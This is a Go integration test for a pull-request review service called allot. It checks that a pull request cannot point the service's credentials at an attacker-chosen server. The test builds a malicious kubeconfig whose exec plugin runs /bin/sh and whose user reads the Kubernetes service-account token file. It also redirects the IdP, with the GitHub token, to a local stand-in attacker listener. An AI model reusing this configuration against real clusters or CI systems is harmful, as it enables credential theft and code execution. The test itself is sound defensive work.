package test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// tripwire is a loopback listener that counts the connections made to it:
// an attacker's server that must never hear from allot.
type tripwire struct {
	ln   net.Listener
	hits atomic.Int64
}

func startTripwire(t *testing.T) *tripwire {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tw := &tripwire{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			tw.hits.Add(1)
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { _ = ln.Close() })
	return tw
}

func (tw *tripwire) addr() string { return tw.ln.Addr().String() }

// TestPullRequestCannotChooseWhereCredentialsGo opens, as an unapproved
// author, a pull request whose own allot.yaml adds a cluster reached through
// a kubeconfig it ships (an exec plugin that would run inside allot serve,
// and a server on the attacker's listener reading allot's token file),
// points the IdP at that listener with allot's GitHub token, allows charts
// from it, and adds a request placed on that cluster with a chart from
// there. allot must check the requests with the base branch's platform:
// nothing connects to the listener and the plugin never runs. (Each part
// of the attack is valid under the pull request's own allot.yaml, so a
// check that used it would fetch the chart and run the plugin.) The platform
// change is shown on its own, and a team approver cannot approve it.
func TestPullRequestCannotChooseWhereCredentialsGo(t *testing.T) {
	w := startReviewWorld(t)
	tw := startTripwire(t)
	marker := filepath.Join(t.TempDir(), "exec-ran")
	// Where serve checks out this pull request's head (an attacker can guess
	// the folder; the test knows it).
	head := filepath.Join(w.workDir+"-review", "pr-3", "head")
	kubeconfig := fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: evil, cluster: {server: "http://%[1]s"}}]
users:
  - name: evil
    user:
      tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
      exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: ["-c", "touch %[2]s"], interactiveMode: Never}
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
current-context: evil
`, tw.addr(), marker)
	platform := "apiVersion: allot.dev/v1alpha1\nkind: Platform\nmetadata: {name: t}\nspec:\n" +
		"  clusters: [{name: dev, inCluster: true}, {name: evil, kubeconfig: {file: " + filepath.Join(head, "kc.yaml") + "}}]\n" +
		"  idp: {provider: scim, url: \"http://" + tw.addr() + "/scim/v2\", token: {env: ALLOT_GITHUB_TOKEN}}\n" +
		"  defaultSize: small\n  sizes: {small: {quota: {pods: 10}}}\n" +
		"  policy: {addons: {allowedRepositories: [\"https://" + tw.addr() + "\"]}}\n" +
		"  approvers: {default: [webby], teams: {web: [webby]}}\n"
	pwn := "apiVersion: allot.dev/v1alpha1\nkind: Environment\nmetadata: {name: pwn}\n" +
		"spec:\n  type: namespace\n  owner: dan@example.com\n  team: web\n  cluster: evil\n" +
		"  addons: [{name: x, helm: {repository: \"https://" + tw.addr() + "\", chart: x, version: 1.0.0}}]\n"
	ok := "apiVersion: allot.dev/v1alpha1\nkind: Environment\nmetadata: {name: fine}\n" +
		"spec:\n  type: namespace\n  owner: dan@example.com\n  team: web\n  cluster: dev\n" +
		"  addons: [{name: x, helm: {repository: \"https://" + tw.addr() + "\", chart: x, version: 1.0.0}}]\n"
	w.openPRFiles(3, map[string]string{
		"allot.yaml":                 platform,
		"kc.yaml":                    kubeconfig,
		"environments/web/pwn.yaml":  pwn,
		"environments/web/fine.yaml": ok,
		// A request the base platform accepts is planned, with the base
		// branch's clusters.
		"environments/web/plain.yaml": request("plain", "web"),
	})

	// The same without add-ons: every request valid under the pull
	// request's allot.yaml, so a check that used it would plan cluster evil
	// and run its kubeconfig's plugin.
	head4 := filepath.Join(w.workDir+"-review", "pr-4", "head")
	w.openPRFiles(4, map[string]string{
		"allot.yaml":                strings.ReplaceAll(platform, head, head4),
		"kc.yaml":                   kubeconfig,
		"environments/web/pwn.yaml": "apiVersion: allot.dev/v1alpha1\nkind: Environment\nmetadata: {name: pwn}\nspec: {type: namespace, owner: dan@example.com, team: web, cluster: evil}\n",
	})
	for _, n := range []int{3, 4} {
		eventually(t, 90*time.Second, fmt.Sprintf("the check's comment on #%d", n), func() bool {
			return strings.Contains(w.botComment(n), "Platform change")
		})
	}
	if body := w.botComment(4); !strings.Contains(body, `unknown cluster \"evil\"`) && !strings.Contains(body, `unknown cluster "evil"`) {
		t.Errorf("pull request 4's request is not judged by the base platform:\n%s", body)
	}
	body := w.botComment(3)
	t.Logf("comment:\n%s", body)
	if n := tw.hits.Load(); n != 0 {
		t.Errorf("allot connected %d times to a listener the pull request chose", n)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("the pull request's exec plugin ran inside allot serve")
	}
	for _, want := range []string{
		"Platform change", "allot.yaml", // the platform change on its own
		"+  idp: {provider: scim",           // as a diff
		"environments/web/pwn.yaml", "evil", // the request on the unknown cluster, judged by the base platform
		"environments/web/fine.yaml", // the add-on from a repository the base policy does not allow
		"is not allowed by the policy",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the comment does not mention %q", want)
		}
	}

	// webby approves the web team's requests, but a platform change needs
	// one of approvers.default on the base branch (alice).
	w.gh.AddComment(reviewRepo, 3, "webby", "/approve")
	eventually(t, 30*time.Second, "the refusal", func() bool {
		for _, c := range w.gh.Comments(reviewRepo, 3) {
			if strings.Contains(c.Body, "not an approver") {
				return true
			}
		}
		return false
	})
	if m := w.gh.Merges(); len(m) != 0 {
		t.Errorf("merged %+v", m)
	}
	if n := tw.hits.Load(); n != 0 {
		t.Errorf("allot connected %d times to a listener the pull request chose", n)
	}
}
